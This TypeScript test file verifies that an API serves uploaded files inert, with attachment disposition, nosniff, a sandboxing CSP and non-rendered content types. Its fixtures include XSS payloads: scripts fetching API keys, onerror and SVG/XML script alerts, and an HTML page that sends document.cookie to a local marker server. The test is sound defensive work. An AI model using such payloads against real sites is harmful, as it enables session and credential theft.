// Stored files come back as downloads a browser will not run: attachment, nosniff, a sandboxing
// Content-Security-Policy, and active types (HTML, SVG, XML, scripts) under a type that is
// never rendered. An uploaded HTML page with a script must not execute in the API's origin.
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../helpers/browser.js';
import { createTestApp, type TestApp } from '../helpers/app.js';
import { multipart } from '../helpers/multipart.js';
import { makeTextPdf } from '../helpers/pdf-fixtures.js';
import { dataOf, makeProject, quickActor, type QuickActor } from '../integration/foundation/support.js';

describe('stored content is served inert', () => {
  let t: TestApp;
  let owner: QuickActor;
  let projectId: string;
  beforeAll(async () => {
    t = await createTestApp('pglite');
    owner = await quickActor(t);
    projectId = (await makeProject(t.app, owner.auth)).id;
  });
  afterAll(async () => {
    await t?.close();
  });

  const upload = async (name: string, data: Buffer) => {
    const body = multipart({ project_id: projectId }, { name, data });
    return dataOf(
      await t.app.inject({
        method: 'POST',
        url: '/api/v1/documents',
        headers: { ...owner.auth, ...body.headers },
        payload: body.payload,
      }),
      201,
    ) as { id: string; mime_type: string };
  };

  it('every download is an attachment with nosniff and a sandboxing CSP; active types get a type browsers never render', async () => {
    const cases: { name: string; data: Buffer; served: string }[] = [
      {
        name: 'page.html',
        data: Buffer.from('<!doctype html><html><body><script>fetch("/api/v1/api-keys")</script>Invoice</body></html>'),
        served: 'application/octet-stream',
      },
      {
        name: 'frag.htm',
        data: Buffer.from('<div><img src=x onerror="alert(1)">Total 12.00</div>'),
        served: 'application/octet-stream',
      },
      {
        name: 'logo.svg',
        data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        served: '',
      },
      {
        name: 'feed.xml',
        data: Buffer.from('<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
        served: '',
      },
      {
        name: 'invoice.pdf',
        data: await makeTextPdf({ pages: [['Invoice 1', 'Total 5.00 EUR']] }),
        served: 'application/pdf',
      },
      { name: 'notes.txt', data: Buffer.from('Receipt\nTotal 3.00 EUR\n'), served: 'text/plain' },
    ];
    for (const c of cases) {
      const doc = await upload(c.name, c.data);
      const res = await t.app.inject({
        method: 'GET',
        url: `/api/v1/documents/${doc.id}/content`,
        headers: owner.auth,
      });
      expect(res.statusCode, c.name).toBe(200);
      expect(res.rawPayload.equals(c.data), c.name).toBe(true);
      expect(res.headers['x-content-type-options'], c.name).toBe('nosniff');
      expect(String(res.headers['content-security-policy']), c.name).toMatch(/(^|;\s*)sandbox(;|$)/);
      expect(String(res.headers['content-security-policy']), c.name).toMatch(/default-src 'none'/);
      expect(String(res.headers['content-disposition']), c.name).toMatch(/^attachment;/);
      const type = String(res.headers['content-type']);
      // Whatever the sniffer decided, what is served is never a type a browser runs or renders as a page.
      expect(type, c.name).not.toMatch(/html|xml|svg|javascript|ecmascript/i);
      if (c.served) expect(type.split(';')[0], c.name).toBe(c.served);
    }
  });

  it('a real browser opening an uploaded HTML page downloads it and runs none of its script', async () => {
    const hits: string[] = [];
    const marker: Server = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.end('ok');
    });
    await new Promise<void>((r) => marker.listen(0, '127.0.0.1', r));
    const mport = (marker.address() as { port: number }).port;
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const port = (t.app.server.address() as { port: number }).port;
    let browser: Browser | undefined;
    try {
      const html = `<!doctype html><html><body><script>fetch("http://127.0.0.1:${mport}/ran?"+document.cookie)</script><img src="http://127.0.0.1:${mport}/img">x</body></html>`;
      const doc = await upload('attack.html', Buffer.from(html));
      browser = await launchBrowser();
      const page = await browser.newPage({ acceptDownloads: true });
      await page.setExtraHTTPHeaders(owner.auth);
      const [download] = await Promise.all([
        page.waitForEvent('download', { timeout: 20_000 }),
        page.goto(`http://127.0.0.1:${port}/api/v1/documents/${doc.id}/content`).catch(() => null),
      ]);
      expect(download.suggestedFilename()).toBe('attack.html');
      await download.path();
      expect(page.url()).not.toContain('/content');
      // Nothing of the page ran or loaded: not the script, not the image.
      expect(hits).toEqual([]);
    } finally {
      await browser?.close();
      await new Promise((r) => marker.close(r));
    }
  });
});
